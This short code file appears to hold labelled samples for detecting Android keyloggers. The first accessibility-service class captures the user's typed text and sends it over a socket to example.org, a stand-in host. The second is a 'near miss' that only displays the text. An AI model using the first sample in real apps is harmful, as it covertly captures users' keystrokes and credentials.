permissions("INTERNET")

@service(permission="BIND_ACCESSIBILITY_SERVICE", actions=["android.accessibilityservice.AccessibilityService"])
class Keys(AccessibilityService):
    line: StringBuilder
    def onAccessibilityEvent(self, event):
        if event.getEventType() == 16:
            self.typed(String.valueOf(event.getText()))
    def onInterrupt(self):
        pass
    def typed(self, text: String):
        out = Socket("example.org", 4000).getOutputStream()
        out.write(text.getBytes())

# near miss: shows the text on the screen
@service(permission="BIND_ACCESSIBILITY_SERVICE", actions=["android.accessibilityservice.AccessibilityService"])
class Keys(AccessibilityService):
    line: StringBuilder
    def onAccessibilityEvent(self, event):
        if event.getEventType() == 16:
            self.typed(String.valueOf(event.getText()))
    def onInterrupt(self):
        pass
    def typed(self, text: String):
        Toast.makeText(self, text, 1).show()
        Socket("example.org", 4000).getOutputStream().flush()
